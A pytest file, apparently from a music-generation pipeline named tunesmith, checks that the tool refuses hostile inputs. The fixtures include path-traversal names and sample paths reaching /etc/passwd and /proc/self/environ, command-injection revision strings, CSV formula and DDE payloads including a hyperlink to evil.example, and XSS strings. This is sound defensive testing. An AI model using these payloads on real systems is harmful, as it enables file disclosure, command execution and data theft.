"""The bad-input catalogue, round three: file system, names, and files other programs open.

What a hostile user or collaborator tried after rounds one and two held (issue 34): track names
that are paths, paths in samples.jsonl that point outside the samples folder, lock and set-aside
names that are someone else's, a second trainer on one model folder, a full or read-only disk,
formula cells in the CSVs and pipes in the Markdown tables. Same rules as the earlier rounds: every
fixture is built here, a row passes when tunesmith keeps its promise (one line naming the file,
key or value, exit 2; nothing outside its own folders read, written, renamed or deleted), and no
row trains a model (the session's tiny model serves the one row that needs one).
"""

from __future__ import annotations

import csv
import errno
import json
import logging
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
import yaml

from test_bad_input import TUNE, _cli, _run_stage
from tunesmith.core import io
from tunesmith.core.errors import ArtifactError, ConfigError

ROOT = Path(__file__).resolve().parents[1]
SRC = ROOT / "src"
HOSTILE_NAMES = ["..", "../..", "a/b", ".x", "`", "$(id)", "", "Essen", "essen\n", "1st", "a b", "a;rm -rf x",
                 "x" * 41, "/etc", "data/../.."]
IDS = ["dotdot", "dotdot-dotdot", "slash", "hidden", "backtick", "command-substitution", "empty", "capital",
       "trailing-newline", "leading-digit", "space", "semicolon", "41-characters", "absolute", "climbs-out"]


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


# =========================================================================== track names


def _params_with_track(tmp: Path, name: str) -> Path:
    params = yaml.safe_load((ROOT / "params.yaml").read_text())
    params["tracks"][name] = {"kind": "melody"}
    path = tmp / "hostile-params.yaml"
    path.write_text(yaml.safe_dump(params))
    return path


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=IDS)
def test_track_name_check_refuses_a_name_dvc_would_make_a_path(name, tmp_path, capsys):
    from tunesmith.config.tracks_check import main

    assert main([str(_params_with_track(tmp_path, name))]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("tunesmith: error:") and repr(name)[:40] in err, err


@pytest.mark.parametrize("name", ["..", "../data", "bl_jsb/.."], ids=["dotdot", "climbs", "trailing-dotdot"])
def test_track_name_check_refuses_a_benchmark_name_that_is_a_path(name, tmp_path, capsys):
    from tunesmith.config.tracks_check import main

    params = yaml.safe_load((ROOT / "benchmark" / "params.yaml").read_text())
    params["benchmarks"].append(name)
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(params))
    assert main([str(tmp_path / "params.yaml")]) == 2
    assert "benchmarks" in capsys.readouterr().err


def test_track_name_check_passes_the_projects_own_params(capsys):
    from tunesmith.config.tracks_check import check_params, main

    assert main([str(ROOT / "params.yaml"), str(ROOT / "benchmark" / "params.yaml")]) == 0
    assert check_params(ROOT / "params.yaml") == ["nottingham", "essen", "classical"]
    assert capsys.readouterr().err == ""


def test_register_tracks_matches_the_whole_name():
    from tunesmith.tracks import register_tracks

    with pytest.raises(ConfigError, match="essen"):  # `$` of a regex matched before a trailing newline
        register_tracks({"essen\n": {"kind": "melody"}})


@pytest.mark.parametrize("name", ["..", "../..", "a/b"], ids=["dotdot", "dotdot-dotdot", "slash"])
def test_a_stage_refuses_a_corpus_name_that_is_a_path_before_reading_anything(name, tmp_path, capsys):
    message = _run_stage("fetch", tmp_path, capsys, corpus=name, out=tmp_path / "data" / "raw" / name,
                         cache=tmp_path / "cache")
    assert "--corpus" in message and repr(name) in message
    assert not (tmp_path / "data").exists()


def _dvc_outs(root: Path) -> dict[str, list[Path]]:
    """Every stage's declared outputs as DVC resolves them for the project at ``root``."""
    from dvc.repo import Repo

    # `dvc init` in a child: in this process an earlier test's DVC CLI call may have left DVC's log
    # handler on a capture stream pytest has closed, and Repo.init logs "Initialized DVC repository."
    subprocess.run([sys.executable, "-m", "dvc", "init", "--no-scm", "-q"], cwd=root, check=True)
    with Repo(str(root)) as repo:
        return {s.name: [Path(o.fs_path) for o in s.outs] for s in repo.index.stages}


@pytest.fixture(scope="module")
def dvc_graphs(tmp_path_factory) -> dict[str, tuple[Path, dict[str, list[Path]]]]:
    """The root graph (dvc.yaml and noise/dvc.yaml) with the project's params, the same with
    hostile track names, and the benchmark graph with its own, each loaded by DVC itself."""
    graphs = {}
    for label, extra in (("valid", {}), ("hostile", {"..": {"kind": "melody"}, "../..": {"kind": "abc"}})):
        root = tmp_path_factory.mktemp(f"dvc-{label}")
        (root / "noise").mkdir()
        shutil.copy(ROOT / "dvc.yaml", root / "dvc.yaml")
        shutil.copy(ROOT / "noise" / "dvc.yaml", root / "noise" / "dvc.yaml")
        params = yaml.safe_load((ROOT / "params.yaml").read_text())
        params["tracks"].update(extra)
        (root / "params.yaml").write_text(yaml.safe_dump(params))
        graphs[label] = (root, _dvc_outs(root))
    root = tmp_path_factory.mktemp("dvc-benchmark")
    shutil.copy(ROOT / "benchmark" / "dvc.yaml", root / "dvc.yaml")
    shutil.copy(ROOT / "benchmark" / "params.yaml", root / "params.yaml")
    graphs["benchmark"] = (root, _dvc_outs(root))
    return graphs


@pytest.mark.parametrize("graph", ["valid", "benchmark"])
def test_every_declared_output_of_every_dvc_yaml_is_inside_data(dvc_graphs, graph):
    root, outs = dvc_graphs[graph]
    assert any("seeds@" in s for s in outs) or graph == "benchmark", sorted(outs)
    data = (root / "data").resolve()
    paths = [p.resolve() for ps in outs.values() for p in ps]
    assert len(paths) > 20
    assert all(p != data and p.is_relative_to(data) for p in paths), \
        [str(p) for p in paths if p == data or not p.is_relative_to(data)]


def test_hostile_names_would_make_dvc_delete_data_and_the_check_refuses_them_first(dvc_graphs, capsys):
    from tunesmith.config.tracks_check import main

    root, outs = dvc_graphs["hostile"]
    # what DVC itself resolves (and deletes before a stage's command runs): data/ and the project
    assert "fetch@.." in outs and "fetch@../.." in outs, sorted(outs)
    assert Path(outs["fetch@.."][0]).resolve() == (root / "data").resolve()
    assert Path(outs["fetch@../.."][0]).resolve() == root.resolve()
    assert main([str(root / "params.yaml")]) == 2  # what make repro and make noise run before DVC
    assert "'..'" in capsys.readouterr().err


def _fake_project(tmp: Path, params: Path) -> Path:
    """The Makefile in a folder of its own, with a .venv whose python is this one and whose dvc and
    tunesmith only write down how they were called."""
    shutil.copy(ROOT / "Makefile", tmp / "Makefile")
    shutil.copytree(ROOT / "tools", tmp / "tools", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "dvc.yaml", tmp / "dvc.yaml")  # make repro runs tools/repro.py, which needs it
    (tmp / "benchmark").mkdir()
    shutil.copy(params, tmp / "params.yaml")
    shutil.copy(ROOT / "benchmark" / "params.yaml", tmp / "benchmark" / "params.yaml")
    bin_dir = tmp / ".venv" / "bin"
    bin_dir.mkdir(parents=True)
    scripts = {"python": f'exec {sys.executable} "$@"\n',
               "dvc": 'printf "%s\\n" "$@" >> "$CALLED"\n',
               "tunesmith": 'printf "%s\\n" "$@" > "$CALLED"\n'}
    for name, body in scripts.items():
        (bin_dir / name).write_text("#!/bin/sh\n" + body)
        (bin_dir / name).chmod(0o755)
    return tmp


def _make(tmp: Path, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(SRC), "CALLED": str(tmp / "called")}
    env.pop("MAKEFLAGS", None)
    return subprocess.run(["make", "-s", "-o", "install", *args], cwd=tmp, env=env, capture_output=True, text=True,
                          timeout=60)


@pytest.mark.parametrize("target", ["repro", "noise"])
def test_make_refuses_a_hostile_track_name_before_dvc_runs(target, tmp_path):
    project = _fake_project(tmp_path, _params_with_track(tmp_path, ".."))
    proc = _make(project, target)
    assert proc.returncode != 0 and "'..'" in proc.stderr, proc.stderr
    assert not (project / "called").exists() and not (project / ".dvc").exists()


def test_make_benchmark_refuses_a_hostile_benchmark_name_before_dvc_runs(tmp_path):
    project = _fake_project(tmp_path, ROOT / "params.yaml")
    params = yaml.safe_load((project / "benchmark" / "params.yaml").read_text())
    params["benchmarks"].append("../..")
    (project / "benchmark" / "params.yaml").write_text(yaml.safe_dump(params))
    proc = _make(project, "benchmark")
    assert proc.returncode != 0 and "'../..'" in proc.stderr, proc.stderr
    assert not (project / "called").exists()


def test_make_repro_with_valid_names_runs_dvc(tmp_path):
    project = _fake_project(tmp_path, ROOT / "params.yaml")
    proc = _make(project, "repro")
    assert proc.returncode == 0, proc.stderr
    assert "repro" in (project / "called").read_text().split()


@pytest.mark.parametrize("rev", ["fix;id>pwned;x", "x&&touch pwned", "x|touch pwned", "x`touch pwned`",
                                 "a' ; touch pwned; '", 'a" ; touch pwned; "'],
                         ids=["semicolon", "and", "pipe", "backtick", "single-quote", "double-quote"])
def test_make_compare_passes_rev_as_one_argument_and_runs_nothing_else(rev, tmp_path):
    project = _fake_project(tmp_path, ROOT / "params.yaml")
    proc = _make(project, "compare", f"REV={rev}")
    assert proc.returncode == 0, proc.stderr
    assert (project / "called").read_text().splitlines() == ["compare", "--rev", rev, "--out", "compare"]
    assert not (project / "pwned").exists()


# =========================================================================== compare: revisions, tables, status


@pytest.mark.parametrize("rev", ["fix;id>pwned;x", "x<svg/onload=alert(1)>|y", "-x", "--output=/tmp/x", "a b",
                                 "$(id)", "`id`", "", "main:params.yaml", "x\ny"],
                         ids=["semicolon", "html-pipe", "dash", "option", "space", "substitution", "backtick",
                              "empty", "colon-path", "newline"])
def test_compare_refuses_a_rev_with_characters_git_names_do_not_need(rev, tmp_path):
    from tunesmith.compare.git import resolve_rev
    from tunesmith.core.errors import TunesmithError

    with pytest.raises(TunesmithError, match="not a git revision name") as err:
        resolve_rev(tmp_path, rev)  # before git runs: tmp_path is no repository
    assert "\n" not in str(err.value)


@pytest.mark.parametrize("rev", ["main", "HEAD~2", "main^", "v1.0.2", "feature/x-y", "@{upstream}", "a1b2c3d"])
def test_compare_accepts_every_ordinary_revision_name(rev):
    from tunesmith.compare.git import REV_NAME

    assert REV_NAME.fullmatch(rev)


def test_compare_cli_refuses_a_hostile_rev_in_one_line(tmp_path, capsys):
    assert _cli("compare", "--rev", "x<svg/onload=alert(1)>|y", "--out", str(tmp_path / "cmp")) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--rev" in err and not (tmp_path / "cmp").exists()


@pytest.mark.parametrize("text", ["x<svg/onload=alert(1)>|y", "a\nb|c", "`rm -rf`", "back\\|slash", "a\r|b"],
                         ids=["html-and-pipe", "newline", "backticks", "backslash-pipe", "carriage-return"])
def test_markdown_cell_keeps_the_table_in_its_columns(text):
    from tunesmith.core.cells import markdown_cell

    cell = markdown_cell(text)
    assert _cells(f"| {cell} | b |") == [cell, "b"]
    assert "\n" not in cell and "\r" not in cell and "<" not in cell and "`" not in cell.replace("\\`", "")


def _cells(line: str) -> list[str]:
    """The cells of a Markdown table row: split at each ``|`` that no backslash escapes."""
    cells, cell, chars = [], "", iter(line.strip())
    for ch in chars:
        if ch == "\\":
            cell += ch + next(chars, "")
        elif ch == "|":
            cells.append(cell.strip())
            cell = ""
        else:
            cell += ch
    return cells[1:]


def test_compare_report_md_escapes_a_hostile_revision_and_key():
    from tunesmith.compare.page import markdown

    rev = "x<svg/onload=alert(1)>|y"
    ctx = {"old": rev, "new": "workspace", "sha": "0123abcd", "corpora": [], "changed": [], "missing": [],
           "params": [{"key": "train.a|b`c", "old": "1|2", "new": "<b>3</b>"}]}
    text = markdown(ctx)
    table = [line for line in text.splitlines() if line.startswith("|")]
    assert [len(_cells(line)) for line in table] == [3, 3, 3]
    assert "<svg" not in text and "<b>" not in text and rev not in text


def test_benchmark_table_md_escapes_what_an_evaluate_json_holds():
    from tunesmith.benchmark.published import ORDER, table_markdown

    results = {ORDER[0]: {"test": {"lstm": {"nll_per_frame": "1|<img src=x>"}}, "kneser_ney_order": "3|`x`",
                          "train_seconds": {"lstm": "soon"}}}
    text = table_markdown(results)
    rows = [line for line in text.splitlines() if line.startswith("|")]
    assert len({len(_cells(line)) for line in rows}) == 1 and "<img" not in text


class _Repo:
    def __init__(self, status: dict) -> None:
        self._status = status

    def status(self) -> dict:
        return self._status


@pytest.mark.parametrize("status, warned", [({}, False), ({"train@essen": ["changed deps"]}, True),
                                            ({f"s{i}": [] for i in range(8)}, True)],
                         ids=["clean", "one-stage", "eight-stages"])
def test_compare_warns_in_one_line_when_dvc_status_is_not_clean(status, warned, caplog):
    from tunesmith.compare.run import warn_if_stale

    with caplog.at_level(logging.WARNING, logger="tunesmith.compare.run"):
        assert warn_if_stale(_Repo(status)) == sorted(status)
    lines = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(lines) == int(warned) and all("\n" not in line and "dvc status" in line for line in lines)
    if warned:
        assert next(iter(sorted(status))) in lines[0]


# =========================================================================== CSV cells


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C x'!A0",
            "\t=1+1", "\r=1+1", "=bad.abc", "'=already quoted"]


@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus-dde", "at-sum", "minus-formula", "tab", "cr",
                                                "equals-file-name", "quote-equals"])
def test_csv_formula_cells_are_neutralised_and_read_back_as_written(text, tmp_path):
    path = tmp_path / "manifest.csv"
    io.write_csv(path, pd.DataFrame({"id": ["p1"], "title": [text], "n": [-3]}))
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][1] == "'" + text and rows[1][2] == "-3"
    back = io.read_csv(path, dtype=str, keep_default_na=False)
    assert back.loc[0, "title"] == text


def test_csv_numbers_stay_numbers(tmp_path):
    path = tmp_path / "samples.csv"
    frame = pd.DataFrame({"seed": [-5, 3], "temperature": [-0.5, 1e-3], "text": ["-5", "-0.25"], "ok": ["a", "'b"]})
    io.write_csv(path, frame)
    assert path.read_text().splitlines()[1:] == ["-5,-0.5,-5,a", "3,0.001,-0.25,'b"]
    back = io.read_csv(path, keep_default_na=False)
    assert back["seed"].tolist() == [-5, 3] and back["ok"].tolist() == ["a", "'b"]


def test_fetch_and_prepare_keep_formula_titles_and_file_names_inert_and_usable(tmp_path):
    from tunesmith.config.stages import FetchConfig, PrepareConfig
    from tunesmith.pipeline.fetch import fetch_stage
    from tunesmith.pipeline.prepare import prepare_stage

    src = tmp_path / "src"
    src.mkdir()
    (src / "=good.abc").write_text(TUNE.replace("T:Tune", 'T:=HYPERLINK("http://evil.example")'))
    (src / "@bad.abc").write_text("\x00\x01 not music")
    raw = tmp_path / "data" / "raw" / "nottingham"
    fetch_stage("nottingham", FetchConfig(source="local", local_dir=str(src)), raw,
                cache_dir=tmp_path / "cache", key="fetch.nottingham")
    manifest_text = (raw / "manifest.csv").read_text()
    rejected_text = (raw / "rejected.csv").read_text()
    assert "'=HYPERLINK" in manifest_text and "'@bad.abc" in rejected_text
    assert not any(cell.startswith(("=", "+", "-", "@")) for text in (manifest_text, rejected_text)
                   for row in csv.reader(text.splitlines()) for cell in row)
    prepared = tmp_path / "data" / "prepared" / "nottingham"
    prepare_stage("nottingham", raw, prepared, tmp_path / "prepare.json", PrepareConfig(workers=1))
    pieces = io.read_jsonl(prepared / "pieces.jsonl")
    assert len(pieces) == 1 and pieces[0]["title"] == '=HYPERLINK("http://evil.example")'  # read back as it was
    assert io.read_csv(prepared / "rejected.csv", dtype=str)["source_file"].tolist() == ["@bad.abc"]


# =========================================================================== samples.jsonl paths


def _samples(folder: Path, **fields) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sample_000.txt").write_text("60 62 64")
    record = {"name": "sample_000", "info": {}, "txt": "sample_000.txt", **fields}
    (folder / "samples.jsonl").write_text(json.dumps(record) + "\n")
    return folder


def _outside(tmp: Path) -> Path:
    secret = tmp / "secret.txt"
    secret.write_text("API_KEY=hunter2")
    return secret


SAMPLE_PATHS: dict[str, Callable[[Path], tuple[str, str]]] = {
    "txt-climbs-to-etc-passwd": lambda t: ("txt", "../../../../../../../../etc/passwd"),
    "midi-proc-self-environ": lambda t: ("midi", "/proc/self/environ"),
    "png-absolute-etc-hostname": lambda t: ("png", "/etc/hostname"),
    "mp3-one-folder-up": lambda t: ("mp3", "../secret.txt"),
    "svg-through-a-sub-folder": lambda t: ("svg", "sub/../../secret.txt"),
    "musicxml-absolute-secret": lambda t: ("musicxml", str(t / "secret.txt")),
    "wav-empty-name": lambda t: ("wav", ""),
    "abc-nul-byte": lambda t: ("abc", "a\x00b"),
}


@pytest.mark.parametrize("make", list(SAMPLE_PATHS.values()), ids=list(SAMPLE_PATHS))
def test_samples_jsonl_paths_outside_the_folder_are_refused_naming_file_and_field(make, tmp_path):
    from tunesmith.core.sample_record import read_records

    _outside(tmp_path)
    field, value = make(tmp_path)
    folder = _samples(tmp_path / "samples" / "essen", **{field: value})
    with pytest.raises(ArtifactError) as err:
        read_records(folder)
    message = str(err.value)
    assert "samples.jsonl, line 1" in message and field in message and "\n" not in message


@pytest.mark.parametrize("field", ["txt", "png"])
def test_a_sample_file_that_is_a_link_to_elsewhere_is_refused(field, tmp_path):
    from tunesmith.core.sample_record import read_records

    secret = _outside(tmp_path)
    folder = _samples(tmp_path / "samples" / "essen", **{field: f"sample_000.{field}x"})
    (folder / f"sample_000.{field}x").symlink_to(secret)
    with pytest.raises(ArtifactError, match=f"line 1 {field}.*outside"):
        read_records(folder)


def test_a_sample_linked_into_the_projects_dvc_cache_is_followed(tmp_path):
    from tunesmith.core.sample_record import read_records

    cached = tmp_path / ".dvc" / "cache" / "files" / "md5" / "ab" / "cdef"
    cached.parent.mkdir(parents=True)
    cached.write_text("60 62")
    folder = _samples(tmp_path / "data" / "samples" / "essen", midi="sample_000.mid")
    (folder / "sample_000.mid").symlink_to(cached)  # dvc checkout with cache.type: symlink
    assert read_records(folder)[0].midi == str(folder / "sample_000.mid")


def test_samples_csv_of_an_older_folder_cannot_name_a_sample_elsewhere(tmp_path):
    from tunesmith.core.sample_record import read_records

    _outside(tmp_path)
    folder = tmp_path / "samples" / "essen"
    folder.mkdir(parents=True)
    pd.DataFrame({"sample": ["../../secret"], "seed": [1]}).to_csv(folder / "samples.csv", index=False)
    with pytest.raises(ArtifactError, match=r"samples.csv line 2.*not a plain name"):
        read_records(folder)


def test_the_report_stage_refuses_a_hostile_samples_jsonl_and_copies_nothing(tmp_path, capsys):
    data = tmp_path / "data"
    (data / "eval" / "essen").mkdir(parents=True)
    (data / "eval" / "essen" / "evaluate.json").write_text("{}")
    (data / "models" / "essen").mkdir(parents=True)
    (data / "models" / "essen" / "metrics.json").write_text("{}")
    secret = _outside(tmp_path)
    _samples(data / "samples" / "essen", txt=str(secret), png="../../../secret.txt")
    message = _run_stage("report", tmp_path, capsys, out=data / "report", metrics=data / "metrics",
                         eval=data / "eval", models=data / "models", live=data / "live",
                         samples=data / "samples", benchmark_metrics=None, corpora=["essen"])
    assert "samples.jsonl, line 1 txt" in message
    assert not (data / "report").exists()
    assert not any("hunter2" in p.read_text(errors="replace") for p in tmp_path.rglob("*") if p.is_file()
                   and p != secret)


def test_the_report_copies_a_samples_own_files(tmp_path):
    from tunesmith.core.sample_record import read_records
    from tunesmith.report.page import build_report

    folder = _samples(tmp_path / "samples" / "essen")
    records = read_records(folder)
    index = build_report({"essen": {"samples": [dict(name=r.name, txt=r.txt) for r in records]}}, tmp_path / "r")
    assert "60 62 64" in index.read_text()


def test_compare_copies_no_workspace_sample_that_links_elsewhere(tmp_path):
    from tunesmith.compare.samples import workspace_samples

    secret = _outside(tmp_path)
    folder = tmp_path / "data" / "samples" / "essen"
    folder.mkdir(parents=True)
    pd.DataFrame({"sample": ["sample_000"]}).to_csv(folder / "samples.csv", index=False)
    (folder / "sample_000.svg").symlink_to(secret)
    (folder / "sample_000.mid").write_bytes(b"MThd")
    result = workspace_samples(tmp_path, "essen", tmp_path / "cmp")
    copied = tmp_path / "cmp" / "samples" / "workspace" / "essen"
    assert sorted(p.name for p in copied.iterdir()) == ["sample_000.mid", "samples.csv"]
    assert result.samples[0]["score"] is None


def test_evaluate_reads_no_sample_text_outside_its_folder(tmp_path):
    from tunesmith.pipeline.evaluate import read_samples

    _outside(tmp_path)
    folder = _samples(tmp_path / "samples" / "essen", txt="../../secret.txt")
    with pytest.raises(ArtifactError, match="line 1 txt"):
        read_samples(folder, "essen")


# =========================================================================== lock and set-aside names


def _lock_taken_by(kind: str, tmp: Path, lock: Path) -> Callable[[], bool]:
    """Put something tunesmith did not make at ``lock``; returns a check that it is as it was."""
    if kind == "symlink-to-a-precious-file":
        precious = tmp / "precious.txt"
        precious.write_text("years of work")
        lock.symlink_to(precious)
        return lambda: lock.is_symlink() and precious.read_text() == "years of work"
    if kind == "dangling-symlink":
        lock.symlink_to(tmp / "would-be-created")
        return lambda: lock.is_symlink() and not (tmp / "would-be-created").exists()
    if kind == "folder":
        lock.mkdir()
        (lock / "notes.txt").write_text("mine")
        return lambda: (lock / "notes.txt").read_text() == "mine"
    if kind == "fifo":
        os.mkfifo(lock)
        return lambda: lock.exists() and not lock.is_file()
    lock.write_text({"users-file": "my own lock notes\n", "empty-file": ""}[kind])
    text = lock.read_text()
    return lambda: lock.read_text() == text


@pytest.mark.parametrize("kind", ["symlink-to-a-precious-file", "dangling-symlink", "folder", "fifo", "users-file",
                                  "empty-file"])
def test_a_lock_name_tunesmith_did_not_make_is_refused_and_left_as_it_was(kind, tmp_path):
    out = tmp_path / "out.json"
    out.write_text('{"previous": true}\n')
    unchanged = _lock_taken_by(kind, tmp_path, io.lock_name(out))
    with pytest.raises(ArtifactError) as err:
        io.write_json(out, {"new": True})
    assert str(io.lock_name(out)) in str(err.value) and "\n" not in str(err.value)
    assert unchanged() and out.read_text() == '{"previous": true}\n'


def test_generate_refuses_a_symlinked_lock_in_one_line(tmp_path, capsys, tiny_model_dir):
    from test_bad_input_round2 import _generate

    precious = tmp_path / "precious.txt"
    precious.write_text("years of work")
    io.lock_name(tmp_path / "out").symlink_to(precious)
    assert _generate(tiny_model_dir, tmp_path / "out") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "symbolic link" in err and precious.read_text() == "years of work"


@pytest.mark.parametrize("text", ["tunesmith-lock {pid}\n", "{pid}\n"], ids=["marked", "round-two-bare-pid"])
def test_a_dead_tunesmiths_lock_file_is_taken_over_and_removed(text, tmp_path):
    out = tmp_path / "out.json"
    io.lock_name(out).write_text(text.format(pid=_dead_pid()))
    io.write_json(out, {"new": True})
    assert json.loads(out.read_text()) == {"new": True} and not io.lock_name(out).exists()


def test_a_held_lock_is_marked_as_tunesmiths_and_names_its_pid(tmp_path):
    out = tmp_path / "out"
    with io.output_lock(out):
        assert io.lock_name(out).read_text() == f"tunesmith-lock {os.getpid()}\n"
        assert not os.stat(io.lock_name(out)).st_nlink > 1
    assert not io.lock_name(out).exists()


@pytest.mark.parametrize("mine", [".out.old", ".out.lock.old", ".out.old.tmp", ".out.tmp"])
def test_a_users_own_old_folder_beside_an_output_survives_its_replacement(mine, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "index.html").write_text("previous")
    (tmp_path / mine).mkdir()
    (tmp_path / mine / "thesis.tex").write_text("years of work")
    for _ in range(2):  # the second run finds the first one's names, if it left any
        with io.atomic_path(out) as tmp:
            tmp.mkdir()
            (tmp / "index.html").write_text("new")
    assert (out / "index.html").read_text() == "new"
    assert (tmp_path / mine / "thesis.tex").read_text() == "years of work"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out", mine])


def test_the_set_aside_name_is_unique_and_marked_with_the_writers_pid(tmp_path, monkeypatch):
    import shutil as shutil_module

    from tunesmith.core.locks import leftover_pattern

    out = tmp_path / "out"
    out.mkdir()
    (out / "index.html").write_text("previous")
    seen = []
    real_rmtree = shutil_module.rmtree

    def spy(path, *args, **kwargs):
        seen.append(Path(path).name)
        return real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(io.shutil, "rmtree", spy)
    with io.atomic_path(out) as tmp:
        tmp.mkdir()
        (tmp / "index.html").write_text("new")
    old = [n for n in seen if n.endswith(".old")]
    assert len(old) == 1 and leftover_pattern(out.name).fullmatch(old[0]) and f".out.{os.getpid()}." in old[0]


def _leftovers(target: Path, pid: int) -> list[Path]:
    paths = [target.with_name(f".{target.name}.{pid}.{tag}") for tag in ("k2j_9xqa.tmp", "zz9_00ab.old")]
    for path in paths:
        path.mkdir(parents=True)
        (path / "half.bin").write_bytes(b"x" * 1000)
    return paths


def _write_report(target: Path) -> None:
    from tunesmith.report.page import build_report

    build_report({}, target)


def _write_samples(target: Path) -> None:
    with io.atomic_path(target, owned_if=("samples.csv",)) as tmp:
        tmp.mkdir()
        io.write_csv(tmp / "samples.csv", pd.DataFrame({"sample": ["sample_000"]}))


def _write_eval(target: Path) -> None:
    with io.atomic_path(target) as tmp:
        tmp.mkdir()
        io.write_json(tmp / "histograms.json", {})


WRITERS = {"report": ("report", _write_report), "generate": ("samples/essen", _write_samples),
           "evaluate": ("eval/essen", _write_eval),
           "evaluate-metrics": ("metrics/essen/evaluate.json", lambda t: io.write_json(t, {"nll": 1.0}))}


@pytest.mark.parametrize("where, write", list(WRITERS.values()), ids=list(WRITERS))
def test_a_killed_runs_temporaries_are_removed_by_the_next_run_of_that_stage(where, write, tmp_path):
    target = tmp_path / "data" / where
    target.parent.mkdir(parents=True, exist_ok=True)
    dead = _leftovers(target, _dead_pid())
    alive = _leftovers(target, os.getppid())  # a live process's: never touched
    write(target)
    assert target.exists() and not any(p.exists() for p in dead)
    assert all((p / "half.bin").exists() for p in alive)


@pytest.mark.parametrize("name", [".out.123.abcdefg.tmp", ".out.123.ABCDEFGH.tmp", ".outx.123.abcdefgh.tmp",
                                  ".out.old", ".out.123.abcdefgh.tmp.keep", "out.123.abcdefgh.tmp",
                                  ".out.abcdefgh.old"],
                         ids=["seven-characters", "capitals", "another-name", "plain-old", "suffix", "not-hidden",
                              "old-without-pid"])
def test_names_that_only_look_like_a_temporary_are_left_alone(name, tmp_path):
    (tmp_path / name).mkdir()
    io.write_json(tmp_path / "out", {"x": 1})
    assert (tmp_path / name).is_dir()


# =========================================================================== one trainer per model folder


_HOLD = """
import sys
sys.path.insert(0, {src!r})
from tunesmith.core.io import output_lock
with output_lock({out!r}):
    print("held", flush=True)
    sys.stdin.read()
"""


def test_a_second_trainer_of_a_model_folder_stops_at_once_naming_the_first(tmp_path, capsys):
    models = tmp_path / "data" / "models"
    (models / "essen").mkdir(parents=True)
    (models / "essen" / "model.keras").write_bytes(b"previous model")
    holder = subprocess.Popen([sys.executable, "-c", _HOLD.format(src=str(SRC), out=str(models / "essen"))],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        message = _run_stage("train", tmp_path, capsys, corpus="essen", vocab=tmp_path / "no-vocab",
                             out=models / "essen", live=tmp_path / "live", metrics=tmp_path / "train.json",
                         checkpoints=None)
    finally:
        holder.communicate("", timeout=30)
    assert f"pid {holder.pid}" in message and str(models / "essen") in message
    assert (models / "essen" / "model.keras").read_bytes() == b"previous model"
    assert sorted(p.name for p in models.iterdir()) == ["essen"]


def test_a_dead_trainers_lock_does_not_stop_the_next_one(tmp_path, capsys):
    models = tmp_path / "data" / "models"
    models.mkdir(parents=True)
    io.lock_name(models / "essen").write_text(f"tunesmith-lock {_dead_pid()}\n")
    message = _run_stage("train", tmp_path, capsys, corpus="essen", vocab=tmp_path / "no-vocab",
                         out=models / "essen", live=tmp_path / "live", metrics=tmp_path / "train.json",
                         checkpoints=None)
    assert "vocab.json" in message and "another tunesmith" not in message  # on to the next check
    assert not io.lock_name(models / "essen").exists()


# =========================================================================== a full disk, a read-only folder


WRITE_ERRNOS = {"disk-full": errno.ENOSPC, "read-only": errno.EROFS, "no-permission": errno.EACCES,
                "over-quota": errno.EDQUOT}


def _fail(code: int) -> Callable:
    def fail(*args, **kwargs):
        raise OSError(code, os.strerror(code))
    return fail


@pytest.mark.parametrize("code", list(WRITE_ERRNOS.values()), ids=list(WRITE_ERRNOS))
def test_a_file_that_cannot_be_written_is_one_line_naming_its_folder_and_the_previous_stays(code, tmp_path,
                                                                                              monkeypatch):
    out = tmp_path / "metrics" / "evaluate.json"
    out.parent.mkdir()
    out.write_text('{"previous": true}\n')
    monkeypatch.setattr(io.os, "replace", _fail(code))
    with pytest.raises(ArtifactError) as err:
        io.write_json(out, {"new": True})
    message = str(err.value)
    assert str(out.parent) in message and os.strerror(code) in message and "\n" not in message
    assert out.read_text() == '{"previous": true}\n'
    assert sorted(p.name for p in out.parent.iterdir()) == ["evaluate.json"]


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EROFS], ids=["disk-full", "read-only"])
def test_a_folder_that_cannot_be_written_names_the_output_not_its_temporary(code, tmp_path, monkeypatch):
    out = tmp_path / "samples" / "essen"
    out.mkdir(parents=True)
    (out / "samples.csv").write_text("sample\nsample_000\n")
    real_write_text = Path.write_text

    def write_text(self, *args, **kwargs):
        if "sample_001.txt" in self.name:
            raise OSError(code, os.strerror(code), str(self))
        return real_write_text(self, *args, **kwargs)

    with pytest.raises(ArtifactError) as err, io.atomic_path(out, owned_if=("samples.csv",)) as tmp:
        tmp.mkdir()
        monkeypatch.setattr(Path, "write_text", write_text)
        io.write_text(tmp / "sample_000.txt", "60")
        io.write_text(tmp / "sample_001.txt", "62")
    message = str(err.value)
    assert str(out) in message and ".tmp" not in message and os.strerror(code) in message
    assert (out / "samples.csv").read_text() == "sample\nsample_000\n"
    assert sorted(p.name for p in out.parent.iterdir()) == ["essen"]


def test_the_report_on_a_full_disk_is_one_line_and_the_previous_report_stays(tmp_path, monkeypatch):
    from tunesmith.core.sample_record import read_records
    from tunesmith.report.page import build_report

    report = tmp_path / "report"
    report.mkdir()
    (report / "index.html").write_text("previous report")
    records = read_records(_samples(tmp_path / "samples" / "essen", midi="sample_000.txt"))
